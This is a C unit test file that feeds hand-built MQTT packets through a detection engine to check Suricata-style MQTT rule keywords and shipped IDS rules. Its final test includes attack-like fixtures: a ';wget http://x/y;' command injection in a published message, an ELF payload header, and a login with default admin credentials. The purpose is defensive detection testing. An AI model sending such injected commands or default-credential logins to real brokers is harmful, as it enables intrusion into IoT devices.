/* SPDX-License-Identifier: BSD-3-Clause
 *
 * MQTT keywords on real units, through the protocol engine and the MQTT dissector: what Suricata's
 * guide ("MQTT Keywords") says about each. Octets are written by hand after MQTT 3.1.1 and 5.
 */
#include "dissect/engine.h"
#include "unit/rules/rig.h"

static void on_message(void *ctx, struct tt_flow *f, struct tt_tx *tx, const struct tt_msg *m,
                       const struct tt_packet *p)
{
    struct rig *r = ctx;
    tt_matcher_message(r->m, f, tx, m, p);
}

static void on_transaction(void *ctx, struct tt_flow *f, struct tt_tx *tx, enum tt_tx_end end,
                           const struct tt_packet *p)
{
    (void)ctx;
    (void)f;
    (void)tx;
    (void)end;
    (void)p;
}

static void on_anomaly(void *ctx, struct tt_flow *f, enum tt_direction d, unsigned anomaly,
                       const struct tt_packet *p)
{
    struct rig *r = ctx;
    const struct tt_dissector *own = tt_engine_dissector(f);
    uint32_t n;
    const struct tt_anomaly *rows = tt_dissect_anomalies(&n);
    if (p) {
        tt_matcher_event(r->m, f, d, "app-layer-event",
                         anomaly >= TT_ANOMALY_OWN ? own->anomalies[anomaly - TT_ANOMALY_OWN].name
                                                   : rows[anomaly].name,
                         p);
    }
}

static struct tt_engine *engine;

static const char *send(struct rig *r, enum tt_direction d, const char *octets, unsigned n)
{
    tt_engine_octets(engine, &r->flow, d, (struct tt_bytes){(const uint8_t *)octets, n},
                     &r->packet);
    r->packet.number++;
    return rig_hits(r);
}
#define CLIENT(r, s) send(r, TT_TO_SERVER, s, sizeof(s) - 1)
#define SERVER(r, s) send(r, TT_TO_CLIENT, s, sizeof(s) - 1)

static void begin(struct rig *r, const char *rules)
{
    rig_open(r, rules);
    struct tt_dissect_sink sink = {r, on_message, on_transaction, on_anomaly};
    struct tt_dissect_options o = {0};
    engine = tt_engine_new(&o, &sink);
    assert_non_null(engine);
    r->flow.flags = TT_FLOW_SEEN_SYN;
}

static void finish(struct rig *r)
{
    tt_engine_end(engine, &r->flow);
    tt_engine_free(engine);
    rig_close(r);
}

#define R(sid, options) "alert mqtt any any -> any any (" options " sid:" #sid ";)\n"
/* client "dev1", user "root", password "pw", clean session, keep alive 60 */
#define CONNECT                                                                                    \
    "\x10\x1b\0\4MQTT\4\xc2\0\x3c\0\4dev1\0\4root\0\2pw"                                           \
    "\0"
#define CONNECT_4 "\x10\x1a\0\4MQTT\4\xc2\0\x3c\0\4dev1\0\4root\0\2pw"

static void keywords(void **state)
{
    (void)state;
    struct rig r;
    begin(&r,
          R(1, "mqtt.type:CONNECT;") R(2, "mqtt.type:!connect;") R(3, "mqtt.protocol_version:4;")
              R(4, "mqtt.connect.flags:username,password,clean_session,!will;")
                  R(5, "mqtt.connect.clientid; content:\"dev1\"; bsize:4;")
                      R(6, "mqtt.connect.username; content:\"root\";") R(
                          7, "mqtt.connect.password; content:\"pw\";")
                          R(8, "mqtt.connect.protocol_string; content:\"MQTT\";") R(
                              9, "mqtt.reason_code:5;") R(10, "mqtt.connack.session_present:yes;")
                              R(11, "mqtt.connect.username; content:\"root\"; mqtt.reason_code:0;")
                                  R(12, "mqtt.connect.flags:&0x80=0x80;")
                                      R(13, "mqtt.protocol_version:>4;")
                                          R(14, "mqtt.connack.session_present:false;")
                                              R(15, "mqtt.reason_code:0;"));
    assert_string_equal(r.reports, "");
    assert_string_equal(CLIENT(&r, CONNECT_4), "1,3,4,5,6,7,8,12");
    assert_string_equal(SERVER(&r, "\x20\2\0\0"), "2,11,14,15");
    finish(&r);
}

static void publish(void **state)
{
    (void)state;
    struct rig r;
    begin(&r,
          R(1, "mqtt.publish.topic; content:\"door/unlock\"; endswith;")
              R(2, "mqtt.publish.message; content:\"open\";") R(3, "mqtt.qos:1;")
                  R(4, "mqtt.flags:retain,!dup;") R(5, "mqtt.publish.topic; content:\"open\";")
                      R(6, "mqtt.publish.topic; content:\"door\"; mqtt.qos:2;")
                          R(7, "mqtt.subscribe.topic; content:\"#\"; bsize:1;")
                              R(8, "mqtt.unsubscribe.topic; content:\"#\"; bsize:1;")
                                  R(9, "mqtt.publish.topic; content:\"door\"; mqtt.type:PUBACK;")
                                      R(10, "mqtt.type:PUBLISH; flow:to_client;"));
    assert_string_equal(r.reports, "");
    CLIENT(&r, CONNECT_4);
    SERVER(&r, "\x20\2\0\0");
    rig_hits(&r);
    assert_string_equal(CLIENT(&r, "\x31\x11\0\x0b"
                                   "door/unlockopen"),
                        "1,2,4");
    assert_string_equal(CLIENT(&r, "\x32\x13\0\x0b"
                                   "door/unlock\0\1open"),
                        "1,2,3");
    assert_string_equal(SERVER(&r, "\x40\2\0\1"), "9");
    /* SUBSCRIBE has QoS bits 01 */
    assert_string_equal(CLIENT(&r, "\x82\x0d\0\2\0\4a/b+\0\0\1#\0"), "3,7");
    assert_string_equal(CLIENT(&r, "\xa2\5\0\3\0\1#"), "3,8");
    assert_string_equal(SERVER(&r, "\x30\6\0\4"
                                   "door"),
                        "10");
    assert_string_equal(CLIENT(&r, "\xc0\0"), "");
    finish(&r);
}

/* MQTT 5: the topic stands only in the first PUBLISH, then its alias. */
static void alias(void **state)
{
    (void)state;
    struct rig r;
    begin(&r, R(1, "mqtt.publish.topic; content:\"plant/valve\"; startswith;")
                  R(2, "mqtt.publish.properties.topic_alias:3;")
                      R(3, "mqtt.properties.topic_alias:3;"));
    assert_string_equal(
        r.reports, "R 2:32 unknown keyword \"mqtt.publish.properties.topic_alias\" (did you mean "
                   "\"mqtt.properties.topic_alias\"?)\n");
    CLIENT(&r, "\x10\x11\0\4MQTT\5\2\0\x3c\0\0\4dev1");
    /* alias maximum 10 in CONNACK */
    SERVER(&r, "\x20\6\0\0\3\x22\0\x0a");
    rig_hits(&r);
    assert_string_equal(CLIENT(&r, "\x30\x12\0\x0bplant/valve\3\x23\0\3z"), "1,3");
    assert_string_equal(CLIENT(&r, "\x30\7\0\0\3\x23\0\3z"), "1,3");
    finish(&r);
}

static void events(void **state)
{
    (void)state;
    struct rig r;
    begin(&r,
          R(1, "app-layer-event:mqtt.double_connect;") R(2, "app-layer-event:mqtt.missing_publish;")
              R(3, "app-layer-event:mqtt.unintroduced_message;"));
    assert_string_equal(r.reports, "");
    CLIENT(&r, CONNECT_4);
    SERVER(&r, "\x20\2\0\0");
    rig_hits(&r);
    assert_string_equal(CLIENT(&r, CONNECT_4), "1");
    assert_string_equal(SERVER(&r, "\x40\2\0\7"), "2");
    finish(&r);
}

/* Octets of the header's own rules: what ships loads without a word. */
static void shipped(void **state)
{
    (void)state;
    struct rig r = {0};
    struct tt_error e;
    const char *files[] = {"rules", NULL};
    struct tt_rules_options o = {
        .files = files, .variable = rig_variable, .ctx = &r, .report = rig_report};
    struct tt_ruleset *set = tt_ruleset_new(&o, &e);
    assert_non_null(set);
    assert_string_equal(r.reports, "");
    assert_true(tt_ruleset_counts(set).loaded >= 20);
    for (uint32_t i = 0; i < tt_ruleset_counts(set).loaded; i++) {
        const struct tt_rule *x = tt_ruleset_rule(set, i);
        bool technique = false;
        for (const struct tt_pair *p = x->metadata; p->key; p++) {
            technique |= strcmp(p->key, "mitre_technique_id") == 0;
        }
        assert_in_range(x->sid, 1000000, 1000999);
        assert_true(*x->msg && *x->classtype && technique);
    }
    tt_ruleset_free(set);
}

/* The same rules at work: each act raises exactly its own. */
static void shipped_at_work(void **state)
{
    (void)state;
    static char text[65536];
    FILE *f = fopen("rules/mqtt.rules", "r");
    assert_non_null(f);
    text[fread(text, 1, sizeof text - 1, f)] = 0;
    fclose(f);
    struct rig r;
    begin(&r, text);
    assert_string_equal(r.reports, "");
    /* no user name, client id "x1"; accepted */
    assert_string_equal(CLIENT(&r, "\x10\x0e\0\4MQTT\4\2\0\x3c\0\2x1"), "");
    assert_string_equal(SERVER(&r, "\x20\2\0\0"), "1000005");
    assert_string_equal(CLIENT(&r, "\x82\6\0\1\0\1#\0"), "1000000");
    assert_string_equal(CLIENT(&r, "\x82\x0b\0\2\0\6$SYS/#\0"), "1000002");
    /* an unlock with and one without a user */
    assert_string_equal(CLIENT(&r, "\x30\x22\0\x0d"
                                   "a/door/3a/cmd"
                                   "{\"action\":\"unlock\"}"),
                        "1000012");
    assert_string_equal(CLIENT(&r, "\x30\x2b\0\x0d"
                                   "a/door/3a/cmd"
                                   "{\"action\":\"unlock\",\"user\":1}"),
                        "");
    assert_string_equal(CLIENT(&r, "\x31\x03\0\1a"), "1000015");
    assert_string_equal(CLIENT(&r, "\x30\x08\0\1a\x7f"
                                   "ELF\2"),
                        "1000017");
    assert_string_equal(CLIENT(&r, "\x30\x14\0\1a;wget http://x/y;"), "1000019");
    finish(&r);

    begin(&r, text);
    assert_string_equal(CLIENT(&r, "\x10\x1c\0\4MQTT\4\xc2\xff\xff\0\2x1\0\5admin\0\5Admin"),
                        "1000004,1000007,1000024");
    assert_string_equal(SERVER(&r, "\x20\2\0\5"), "1000006");
    finish(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(keywords), cmocka_unit_test(publish), cmocka_unit_test(alias),
        cmocka_unit_test(events),   cmocka_unit_test(shipped), cmocka_unit_test(shipped_at_work),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
